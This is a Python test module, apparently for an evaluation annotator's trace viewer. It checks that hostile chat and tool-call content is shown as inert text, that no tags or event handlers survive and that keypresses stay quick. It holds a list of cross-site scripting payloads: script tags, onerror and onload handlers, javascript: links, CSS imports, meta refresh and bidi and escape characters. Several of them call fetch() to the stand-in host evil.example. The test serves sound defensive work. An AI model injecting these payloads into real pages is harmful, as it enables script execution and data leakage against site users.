"""Traces written to seize the annotator's browser: nothing runs, nothing is fetched."""

from annotating import WIDGET, chat

OUTSIDE = "https://evil.example"
ATTACK = f"""window.seized = 1; fetch('{OUTSIDE}/x')"""
HOSTILE = [
    f"<script>{ATTACK}</script>",
    f'<img src="{OUTSIDE}/a.png" onerror="{ATTACK}">',
    f"<img src=x onerror={ATTACK.replace(' ', '')}>",
    f"[click](javascript:{ATTACK.replace(' ', '')}) [data](data:text/html,<script>1</script>)",
    f'<svg onload="{ATTACK}"><script>{ATTACK}</script><use href="{OUTSIDE}/s.svg#x"/></svg>',
    f"![pixel]({OUTSIDE}/pixel.png) ![other][r]\n\n[r]: {OUTSIDE}/other.png",
    f'<iframe srcdoc="<script>parent.seized=1</script>"></iframe><object data="{OUTSIDE}">',
    f'<style>@import url("{OUTSIDE}/s.css"); * {{display: none}}</style><link rel=stylesheet'
    f' href="{OUTSIDE}/l.css"><base href="{OUTSIDE}"><meta http-equiv=refresh content=0>',
    f'<a href="{OUTSIDE}" onclick="{ATTACK}" style="position:fixed;inset:0">everywhere</a>',
    f"\x1b[31mred\x1b[0m \x1b]8;;{OUTSIDE}\x07link\x1b]8;;\x07 \u202edrawkcab\u202c \u200b",
    "`</script><script>window.seized = 1</script>` <form action=/api><button>Go</button></form>",
    "```html\n</textarea></template><script>window.seized = 1</script>\n```",
]
LARGE = 5_000_000
QUICK = 250  # milliseconds from a key to the page that shows it
HIDDEN_OUTSIDE = """trace => {
  const walker = document.createTreeWalker(trace, NodeFilter.SHOW_TEXT);
  const outside = [];
  while (walker.nextNode()) {
    const { data, parentElement } = walker.currentNode;
    if (/[\\x1b\\u200b\\u202e]/.test(data) && !parentElement.closest(".sign")) outside.push(data);
  }
  return outside;
}"""
"""Characters that cannot be seen, and stand in no box of their own."""
PRESSED = """async () => {
  const root = document.querySelector(".evalbench-annotator");
  const pass = root.querySelector("[data-verdict=pass]");
  const start = performance.now();
  const key = { key: "p", code: "KeyP", bubbles: true, cancelable: true };
  root.querySelector(".trace").dispatchEvent(new KeyboardEvent("keydown", key));
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  return [pass.getAttribute("aria-pressed"), performance.now() - start];
}"""


def tools(text):
    """Make a session with the same text as a tool's arguments, result and name."""
    call = {"name": f"<b onclick=1>{text[:40]}", "arguments": text}
    return {
        "id": "t1",
        "messages": [
            {"role": "user", "content": text},
            {"role": "assistant", "content": None, "tool_calls": [
                {"id": "c", "type": "function", "function": call}]},
            {"role": "tool", "tool_call_id": "c", "content": text},
        ],
    }  # fmt: skip


def make_hostile():
    """Make chats of hostile answers, hostile tools, and answers of five million characters."""
    everything = "\n\n".join(HOSTILE)
    large = "".join(f"{line:07d} of many lines <b>\n" for line in range(LARGE // 25))
    return [chat("h1", *HOSTILE, turns=1), tools(everything), chat("h2", large, large, turns=1)]


def check_hostile(page, session):
    """Open all of a hostile session, and press a key: nothing ran, nothing loaded, no wait."""
    page.keyboard.press("o")  # everything folded is opened
    page.wait_for_timeout(200)
    assert page.evaluate("window.seized") is None
    trace = page.locator(f"{WIDGET} .trace").first
    within = "script, img, svg, iframe, object, style, link, base, meta, form, textarea"
    assert trace.locator(within).count() == 0
    links = trace.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert all(link in (None, "#") or link.startswith("https://") for link in links)
    handlers = "all => all.flatMap(e => e.getAttributeNames().filter(n => /^on/.test(n)))"
    assert trace.locator("*").evaluate_all(handlers) == []
    pressed, milliseconds = page.evaluate(PRESSED)
    assert pressed == "true"
    assert milliseconds < QUICK
    if session == "h1":
        assert trace.evaluate(HIDDEN_OUTSIDE) == []
        assert "<script>" in trace.inner_text()  # shown as the text that it is
    if session == "h2":
        page.get_by_role("button", name="Read on").first.click()
        page.wait_for_function(
            "document.querySelector('.trace').textContent.includes('0001000 of many')"
        )
